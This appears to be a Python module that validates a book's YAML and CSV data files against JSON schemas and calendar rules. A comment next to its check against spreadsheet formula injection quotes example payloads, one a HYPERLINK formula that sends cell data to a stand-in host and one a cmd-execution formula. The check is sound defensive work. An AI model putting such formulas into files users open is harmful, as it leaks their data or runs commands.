"""Read the book's data files and check them against their JSON schemas (`readertools/schemas/`).

The schemas are the documentation of every field; jsonschema does the checking. Each violation
becomes one `SourceError` naming the file, the key path (or CSV row and column) and the YAML line,
with a message an editor can act on (`terms[12] (Bolsheviks).definition, line 45: expected non-empty text, got 5`);
all the violations of a file are reported together.
"""

import csv
import io
import re
from functools import cache
from pathlib import Path

import yaml
from jsonschema import Draft202012Validator, ValidationError, validators

from readertools.errors import BookErrors, SourceError
from readertools.paths import SCHEMAS


class Loader(getattr(yaml, "CSafeLoader", yaml.SafeLoader)):
    """libyaml's safe loader, keeping dates as the text they are written as (`1917-11-07`, not a
    `date`), so that every value is JSON and the schemas say what a date must look like."""


Loader.add_constructor("tag:yaml.org,2002:timestamp", lambda loader, node: loader.construct_scalar(node))
TYPE_WORDS = {"string": "text", "array": "a list", "object": "a mapping", "integer": "a whole number",
              "number": "a number", "boolean": "true or false", "null": "nothing"}
PLACEHOLDER = "TODO:"  # what `make new-source` writes where an editor has to fill something in
# A CSV cell that a spreadsheet opening the file would read as a formula, and run: one that starts
# (after any spaces) with =, + or @, or with - before anything but a digit, a point or a space
# (`=HYPERLINK("http://evil.example/?q="&A1,"x")`, `-cmd|…`). Negative numbers stay allowed. Every
# CSV students download (`book/data/`) is held to it: a dataset's cells by `read_csv`, the texts'
# by `text.texts.formula_cells`.
FORMULA = re.compile(r"\s*(?:[=+@]|-(?![\d.\s]|$))")


def formula(value: str) -> str | None:
    """Why a spreadsheet would run the cell as a formula, or None."""
    found = FORMULA.match(value)
    if not found:
        return None
    return f"starts with {found.group().strip()!r}: a spreadsheet opening the file would run it as a formula"


@cache
def schema(name: str) -> dict:
    """The schema, with its local `$ref`s written out in place (jsonschema resolves a reference on
    every use, which made checking the datasets' rows the slowest part of loading the book)."""
    data = yaml.safe_load((SCHEMAS / f"{name}.schema.yml").read_text(encoding="utf-8"))

    def inline(node):
        if isinstance(node, dict):
            if "$ref" in node and node["$ref"].startswith("#/$defs/"):
                target = inline(data["$defs"][node["$ref"].removeprefix("#/$defs/")])
                return {**target, **inline({k: v for k, v in node.items() if k != "$ref"})}
            return {key: inline(value) for key, value in node.items()}
        return [inline(item) for item in node] if isinstance(node, list) else node

    return inline(data)


MONTH_NAMES = ("January", "February", "March", "April", "May", "June", "July", "August", "September",
               "October", "November", "December")
ISO_DATE = re.compile(r"(?P<year>[0-9]{4})(?:-(?P<month>[0-9]{2})(?:-(?P<day>[0-9]{2}))?)?")


def calendar_problem(year: int, month: int | None = None, day: int | None = None, julian: bool = False) -> str | None:
    """Why a year, month and day is no day of the calendar (Gregorian, or with `julian` the Julian
    calendar of Old Style dates, where every fourth year is a leap year), or None if it is one."""
    if year < 1:
        return f"there is no year {year}"
    if month is not None and not 1 <= month <= 12:
        return f"there is no month {month}"
    if day is None or month is None:
        return None
    leap = year % 4 == 0 and (julian or year % 100 != 0 or year % 400 == 0)
    days = (31, 29 if leap else 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31)[month - 1]
    return None if 1 <= day <= days else f"{MONTH_NAMES[month - 1]} {year} has no day {day} (it has {days})"


def _calendar(validator, calendar, instance, schema):
    """The schemas' `x-calendar: gregorian` (or `julian`): an ISO date (`pattern` checks its form) is a
    day of that calendar, so `1917-02-30` is refused where the pattern alone let it through."""
    found = ISO_DATE.fullmatch(instance) if isinstance(instance, str) else None
    if found:
        numbers = [int(part) if part else None for part in found.group("year", "month", "day")]
        problem = calendar_problem(*numbers, julian=calendar == "julian")
        if problem:
            yield ValidationError(f"{instance!r} is not a date of the {calendar.capitalize()} calendar: {problem}")


Validator = validators.extend(Draft202012Validator, {"x-calendar": _calendar})


@cache
def validator(name: str) -> Draft202012Validator:
    return Validator(schema(name))


def field_descriptions(name: str) -> dict[str, str]:
    """column or key -> its one-line description, as the schema gives it."""
    return {key: value["description"] for key, value in schema(name)["properties"].items()}


def read_yaml(path: Path):
    """The file's data and its node tree (for line numbers); a missing or broken file is one error."""
    path = Path(path)
    if not path.is_file():
        raise SourceError(path, "file not found")
    stat = path.stat()
    return _parsed(path.resolve(), stat.st_mtime_ns, stat.st_size)


@cache
def _parsed(path: Path, mtime: int, size: int):
    """Parsed once per version of the file (libyaml's loader: composed once, then constructed)."""
    loader = Loader(_decode(path))
    try:
        node = loader.get_single_node()
        return (loader.construct_document(node) if node is not None else None), node
    except yaml.YAMLError as error:
        mark = getattr(error, "problem_mark", None) or getattr(error, "context_mark", None)
        place = f"line {mark.line + 1}, column {mark.column + 1}" if mark else None
        problem = getattr(error, "problem", None) or str(error)
        raise SourceError(path, f"not valid YAML: {problem}", place=place) from None
    finally:
        loader.dispose()


def load_yaml(path: Path, schema_name: str, extra_required: tuple[str, ...] = (), student: bool = False):
    """Read a YAML file and check it against its schema; raise every problem at once.

    `student`: read it as the student edition may see it, every value the schema marks
    `x-instructor-only` read as empty (`without_instructor_only`)."""
    data, nodes = read_yaml(path)
    problems = check(data, schema_name, path, nodes, extra_required)
    if problems:
        raise BookErrors(problems)
    return without_instructor_only(data, schema(schema_name)) if student else data


def without_instructor_only(data, rule: dict):
    """A copy of checked data with every value its schema marks `x-instructor-only: true` emptied
    ("", [] or {}, by the value's type), so that a model loaded from it never holds them. A copy:
    the parsed file is cached (`_parsed`), and the instructor edition reads the same one."""
    if not isinstance(rule, dict):
        return data
    if rule.get("x-instructor-only"):
        return type(data)() if isinstance(data, str | list | dict) else None
    if isinstance(data, dict):
        properties = rule.get("properties", {})
        return {key: without_instructor_only(value, properties.get(key, {})) for key, value in data.items()}
    if isinstance(data, list):
        return [without_instructor_only(item, rule.get("items", {})) for item in data]
    return data


def check(data, schema_name: str, path: Path, nodes=None, extra_required=()) -> list[SourceError]:
    """Every violation of the schema, as located errors."""
    root = schema(schema_name).get("x-name", "")
    problems = []
    errors = list(validator(schema_name).iter_errors(data))
    if extra_required and isinstance(data, dict):
        missing = [key for key in extra_required if key not in data]
        if missing:
            problems.append(SourceError(path, f"missing key(s) {', '.join(missing)}", place=root or None))
    for error in sorted(errors, key=lambda e: [str(p) for p in e.absolute_path]):
        keys = list(error.absolute_path)
        problems.append(SourceError(path, _message(error), place=_place(root, keys, data, nodes)))
    return problems


def unfinished(path: Path, schema_name: str) -> list[SourceError]:
    """Every field of a YAML file that still holds the placeholder `make new-source` wrote."""
    data, nodes = read_yaml(path)
    root = schema(schema_name).get("x-name", "")
    return [SourceError(path, f"still to be filled in: {value[:70]!r}", place=_place(root, keys, data, nodes))
            for keys, value in placeholders(data)]


def placeholders(data, keys=()):
    """(key path, text) of every string that still starts with the placeholder."""
    if isinstance(data, str) and data.strip().startswith(PLACEHOLDER):
        yield list(keys), data.strip()
    elif isinstance(data, dict):
        for key, value in data.items():
            yield from placeholders(value, (*keys, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from placeholders(value, (*keys, index))


def read_csv(path: Path, schema_name: str) -> list[dict]:
    """A CSV's rows as dicts, each checked against the row schema; every problem raised at once.

    Each row carries `_line`, its line in the file, so that later checks can say where they failed.
    """
    path = Path(path)
    if not path.is_file():
        raise SourceError(path, "file not found")
    reader = csv.DictReader(io.StringIO(_decode(path).removeprefix("\ufeff"), newline=""))
    problems, rows = [], []
    try:
        header = reader.fieldnames or []
        if not header:
            raise SourceError(path, "the file is empty (it needs a header row)")
        unknown = [column for column in header if column not in schema(schema_name)["properties"]]
        if unknown:
            problems.append(SourceError(path, f"unknown column(s) {', '.join(map(repr, unknown))} "
                                        f"(the columns are described in {schema_name}.schema.yml)",
                                        place="row 1"))
        for row in reader:
            line = reader.line_num
            place = f"row {line}" + (f" ({row['figure']})" if row.get("figure") else "")
            if None in row or None in row.values():
                fields = len(header) + len(row.get(None) or ()) - sum(v is None for v in row.values())
                problems.append(SourceError(path, f"has {fields} fields, the header has {len(header)}",
                                            place=place))
                continue
            clean = {key: value for key, value in row.items() if key not in unknown}
            for error in validator(schema_name).iter_errors(clean):
                column = ".".join(map(str, error.absolute_path))
                problems.append(SourceError(path, _message(error),
                                            place=f"{place}, {column}" if column else place))
            problems += [SourceError(path, f"{value[:60]!r} {formula(value)} (no figure's text needs to start so: "
                                     "begin it otherwise)", place=f"{place}, {column}")
                         for column, value in row.items() if formula(value)]
            rows.append({**row, "_line": line, "_place": place})
    except csv.Error as error:
        problems.append(SourceError(path, f"not valid CSV: {error}", place=f"row {reader.line_num}"))
    if not rows and not problems:
        problems.append(SourceError(path, "the dataset has no rows"))
    if problems:
        raise BookErrors(problems)
    return rows


def _decode(path: Path) -> str:
    data = path.read_bytes()
    try:
        return data.decode("utf-8")
    except UnicodeDecodeError as error:
        line = data[: error.start].count(b"\n") + 1
        raise SourceError(path, f"not valid UTF-8 (byte {error.start}: {data[error.start:error.start + 1]!r}); "
                          "save the file as UTF-8", place=f"line {line}") from None


def _message(error) -> str:
    """jsonschema's finding, said the way an editor would want to hear it."""
    kind, value, rule = error.validator, error.instance, error.schema
    expected = rule.get("x-expected") if isinstance(rule, dict) else None
    if kind == "type":
        wanted = rule["type"] if isinstance(rule["type"], list) else [rule["type"]]
        return f"expected {expected or ' or '.join(TYPE_WORDS[t] for t in wanted)}, got {value!r}"
    if kind == "required":
        missing = [key for key in error.validator_value if key not in value]
        return f"missing key(s) {', '.join(missing)}"
    if kind == "additionalProperties":
        known = set(rule.get("properties", {}))
        unknown = sorted(str(key) for key in value if key not in known)
        return f"unknown key(s) {', '.join(unknown)} (the schema allows {', '.join(sorted(known))})"
    if kind in ("enum", "const"):
        options = error.validator_value if kind == "enum" else [error.validator_value]
        return f"expected {expected or 'one of ' + ', '.join(map(repr, options))}, got {value!r}"
    if kind in ("pattern", "anyOf", "oneOf") and expected:
        return f"expected {expected}, got {value!r}"
    if kind == "propertyNames":
        return f"{value!r}: keys must be chapter ids"
    if kind == "minItems":
        return f"expected at least {error.validator_value} item(s)"
    return error.message


def place_in(data, nodes, keys) -> str | None:
    """Where a value of a YAML file (`read_yaml`'s data and nodes) stands, as messages name it:
    `execute.execute_notebooks, line 14`."""
    return _place("", list(keys), data, nodes)


def _place(root: str, keys: list, data, nodes) -> str | None:
    path = root
    for key in keys:
        path += f"[{key}]" if isinstance(key, int) else (f".{key}" if path else str(key))
    line = _line(nodes, keys)
    label = _entry_label(data, keys)
    if label and "]" in path:
        first = path.index("]") + 1
        path = f"{path[:first]} ({label}){path[first:]}"
    if line:
        path = f"{path}, line {line}" if path else f"line {line}"
    return path or None


def _entry_label(data, keys) -> str | None:
    """The name of the list entry a path starts in (`sources[5] (henry)`), to find it by eye."""
    if isinstance(data, dict) and keys and isinstance(keys[0], str):
        data, keys = data.get(keys[0]), keys[1:]
    if isinstance(data, list) and keys and isinstance(keys[0], int) and keys[0] < len(data):
        entry = data[keys[0]]
        if isinstance(entry, dict):
            for key in ("id", "term", "name", "number", "file", "key"):
                if isinstance(entry.get(key), str | int) and not isinstance(entry.get(key), bool):
                    return f"{key}: {entry[key]}" if key in ("id", "number") else str(entry[key])
    return None


def _line(node, keys) -> int | None:
    """The line of the value at `keys` in the composed YAML tree (1-based), as far as it goes."""
    if node is None:
        return None
    for key in keys:
        child = None
        if isinstance(node, yaml.MappingNode):
            child = next((v for k, v in node.value if k.value == str(key)), None)
        elif isinstance(node, yaml.SequenceNode) and isinstance(key, int) and key < len(node.value):
            child = node.value[key]
        if child is None:
            break
        node = child
    return node.start_mark.line + 1
